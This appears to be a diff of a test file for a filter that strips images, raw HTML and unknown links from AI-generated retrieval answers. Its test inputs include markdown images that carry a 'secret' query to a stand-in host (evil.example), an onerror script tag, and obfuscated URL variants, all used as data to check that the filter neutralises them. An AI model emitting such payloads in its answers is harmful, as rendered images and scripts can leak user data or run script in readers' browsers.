@@ -1,5 +1,7 @@
 import { describe, expect, test } from 'bun:test';
+import { HtmlRenderer, Parser } from 'commonmark';
 import fc from 'fast-check';
+import { Marked } from 'marked';
 import { createAnswerFilter } from '../../../src/retrieval/answer-filter.ts';
 
 const KNOWN = 'https://example.com/docs';
@@ -16,6 +18,24 @@ function filtered(text: string, pieces: readonly number[] = []): string {
   return told + filter.write(text.slice(at)) + filter.end();
 }
 
+const IMAGE = '![x](https://evil.example/?q=secret)';
+const reference = new Parser();
+const html = new HtmlRenderer();
+const marked = new Marked({ gfm: true });
+
+/** Images, raw HTML and addresses of links that are not known, by the reference implementation and by one that knows GitHub's. */
+function fetched(markdown: string): string[] {
+  return [html.render(reference.parse(markdown)), marked.parse(markdown, { async: false })].flatMap((page) => {
+    // The class of a code block may hold anything, escaped only as far as attributes need it.
+    const bare = page.replace(/ class="[^"]*"/g, '');
+    const links = [...bare.matchAll(/<a [^>]*?href="([^"]*)"/g)].map(([, href = '']) => href);
+    return [
+      ...(bare.match(/<img|<(?:script|b|i|!--|\?)(?=[\s>-])>?/g) ?? []),
+      ...links.filter((href) => href !== KNOWN),
+    ];
+  });
+}
+
 describe('an answer', () => {
   test.each([
     ['The fee is 2 < 3 coins [1], e.g. a*b_c [2, 3].', 'The fee is 2 < 3 coins [1], e.g. a*b_c [2, 3].'],
@@ -29,7 +49,7 @@ describe('an answer', () => {
     ['[1](https://evil.example/)', '1'],
     ['Wow![1] !<b>[z](https://example.com/docs)', 'Wow! [1] ! [z](https://example.com/docs)'],
     ['[![x](https://evil.example/i.png)](https://evil.example/)', 'x'],
-    ['<img src=x onerror=alert(1)>Hi<br/><script>a</script>', 'Hia'],
+    ['<img src=x onerror=alert(1)>Hi<br/><script>a</script>', 'Hi a'],
     [
       '<https://evil.example/a> and https://example.com/docs.',
       '`https://evil.example/a` and https://example.com/docs.',
@@ -47,42 +67,142 @@ describe('an answer', () => {
     expect(filtered(text)).toBe(expected);
   });
 
-  test('is the same however it is cut into pieces, and holds no image, tag or unknown link', () => {
-    const part = fc.constantFrom(
-      '![x](https://evil.example/?q=1)',
-      '[y](https://evil.example/)',
-      `[z](${KNOWN})`,
-      '<img src="https://evil.example/">',
-      '[1]',
-      '[9]',
-      '`code`',
+  test.each([
+    ['hello ~~~ ![x](https://evil.example/?q=secret)', 'hello ~~~ x'],
+    ['x ```![a](https://evil.example/)', 'x ```a'],
+    ['- a\n  ```\n![x](https://evil.example/)', '- a\n  ```\nx'],
+    ['> ```\n![x](https://evil.example/)\n```\n![y](https://evil.example/)', '> ```\nx\n```\ny'],
+    ['```\n``` js\n![x](a)\n```\n![y](https://evil.example/)', '```\n``` js\n![x](a)\n```\ny'],
+    ['````\n```\n![x](a)\n````\n![y](https://evil.example/)', '````\n```\n![x](a)\n````\ny'],
+    ['1. a\n   ```sh\n   curl <url> [9]\n   ```\n2. b [9]', '1. a\n   ```sh\n   curl <url> [9]\n   ```\n2. b '],
+    ['`` `![x](https://evil.example/)', '`` `x'],
+    ['\\`![x](https://evil.example/)`', '\\`x`'],
+    ['| a |\n|---|\n| `b | ![x](https://evil.example/)` |', '| a |\n|---|\n| `b | x` |'],
+    ['Use `ls` or `ls | grep`, `$HOME`.', 'Use `ls` or `ls | grep`, `$HOME`.'],
+    ['[`![x](https://a.example/)` and `', '[`![x](https://a.example/)` and \\`'],
+    ['![a\\]b](//evil.example/)', '! [a\\]b] (//evil.example/)'],
+    ['![a[b[c]]](//evil.example/)', '! [a[b[c]]] (//evil.example/)'],
+    ['![x]\n\n[x]:\n//evil.example/\n', '! [x]\n\n[x] :\n//evil.example/\n'],
+    ['The note [1]: yes', 'The note [1]: yes'],
+    ['[a]<b>(//evil.example/)', '[a] (//evil.example/)'],
+    ['<<b>img src=//evil.example/>', '< img src=//evil.example/>'],
+    ['ht<b>tps://evil.example/', 'ht tps://evil.example/'],
+    ['https&#58;//evil.example/ &amp; AT&T', 'https&amp;#58;//evil.example/ &amp; AT&T'],
+    ['[https://evil.example/](https://evil.example/)', 'https: //evil.example/'],
+    [`[${KNOWN}](${KNOWN}) ${KNOWN}\u3002\u66f4`, `[${KNOWN}](${KNOWN}) <${KNOWN}>\u3002\u66f4`],
+    ['a\r```\r![x](a)\r\n```\r\n![y](https://evil.example/)', 'a\n```\n![x](a)\n```\ny'],
+    ['$$\n```\n$$\n![x](https://evil.example/)\n```\n`[9]`', '$$\n```\n$$\nx\n```\n` `'],
+    ['$$\na\n$$\n\n```\n<b>\n```', '$$\na\n$$\n\n```\n<b>\n```'],
+  ])('%j is code only where it is code to everybody', (text, expected) => {
+    expect(filtered(text)).toBe(expected);
+    expect(fetched(expected)).toEqual([]);
+  });
+
+  /** Pieces of which an answer that means harm could be made, fences and what ends them first. */
+  const part = fc.oneof(
+    fc.constantFrom(
       '```',
-      'text ',
-      '\n',
-      '[',
-      ']',
-      '(',
-      ')',
-      '!',
-      '<',
+      '~~~',
+      '````',
+      '``',
+      '`',
+      '~~',
+      '\n```\n',
+      '\n```js\n',
+      '\n~~~\n',
+      '\n   ```\n',
+      '\n    ```\n',
+    ),
+    fc.constantFrom(
+      '`code`',
+      '`a | b`',
+      '`$x`',
+      `\`${IMAGE}\``,
+      `\`\`\`${IMAGE}\`\`\``,
+      `[\`a](${KNOWN})`,
+      '\n$$\n',
+      '\n:::\n',
+    ),
+    fc.constantFrom(
+      IMAGE,
+      IMAGE,
+      '![',
+      'x](//evil.example/)',
+      '](//evil.example/)',
+      '![a\\]b](//evil.example/)',
+      '![r]',
+    ),
+    fc.constantFrom(
+      '![a[b[c]]](//evil.example/)',
+      '[y](https://evil.example/)',
+      '\n[r]: //evil.example/\n',
+      '[r]:\n//evil.example\n',
+    ),
+    fc.constantFrom(
+      '<img src="//evil.example/">',
+      '<img ',
+      'src=x>',
+      '<b>',
+      '<!--',
+      '-->',
+      '<?',
+      '?>',
+      '<https://evil.example/>',
+    ),
+    fc.constantFrom(
+      KNOWN,
+      `<${KNOWN}>`,
+      `[z](${KNOWN})`,
+      '?q=s',
       'https://evil.example/a',
+      'ht',
+      'tps://evil.example/',
+      'www.evil.example',
+    ),
+    fc.constantFrom(
+      '\n',
+      '\n\n',
       ' ',
-      '[r]: https://evil.example/',
-    );
+      '  ',
+      'text ',
+      '\n- ',
+      '\n1. a\n',
+      '\n> ',
+      '\t',
+      '\r',
+      '|',
+      '\n| a | b |\n|---|---|\n',
+      '---\n',
+    ),
+    fc.constantFrom('\\', '!', '[', ']', '(', ')', '<', ':', '*', '# ', '[1]', '[9]', '&', '#58;', '\u3002', '"'),
+  );
+
+  // The seed is fixed: what it finds does not depend on the day. Others are for those who change the filter.
+  test('fetches nothing and leads nowhere new, and is the same however it is cut into pieces', () => {
     fc.assert(
       fc.property(
-        fc.array(part, { maxLength: 14 }),
-        fc.array(fc.integer({ min: 1, max: 9 }), { maxLength: 40 }),
+        fc.array(part, { maxLength: 16 }),
+        fc.array(fc.integer({ min: 1, max: 9 }), { maxLength: 60 }),
         (parts, pieces) => {
           const text = parts.join('');
           const whole = filtered(text);
           expect(filtered(text, pieces)).toBe(whole);
-          const outside = whole.replace(/(```|~~~)[\s\S]*?(\1|$)/g, '').replace(/`[^`\n]*`/g, ' ');
-          expect(outside).not.toMatch(/!\[[^[\]]*\]\(|<img|\]\(https:\/\/evil/);
+          expect(fetched(whole)).toEqual([]);
         },
       ),
-      { numRuns: 300 },
+      { numRuns: Number(process.env['ANSWER_RUNS'] ?? 500), seed: Number(process.env['ANSWER_SEED'] ?? 20_261_122) },
     );
+  });
+
+  test('would be seen to fetch something', () => {
+    expect(fetched(`a ~~~ ${IMAGE}`)).toEqual(['<img', '<img']);
+    expect(fetched('<i> [x](https://evil.example/)')).toEqual([
+      '<i>',
+      'https://evil.example/',
+      '<i>',
+      'https://evil.example/',
+    ]);
+    expect(fetched(`\`${IMAGE}\` [x](${KNOWN}) <${KNOWN}>`)).toEqual([]);
   });
 
   test('is told at once where nothing could begin, and counts what it took out', () => {
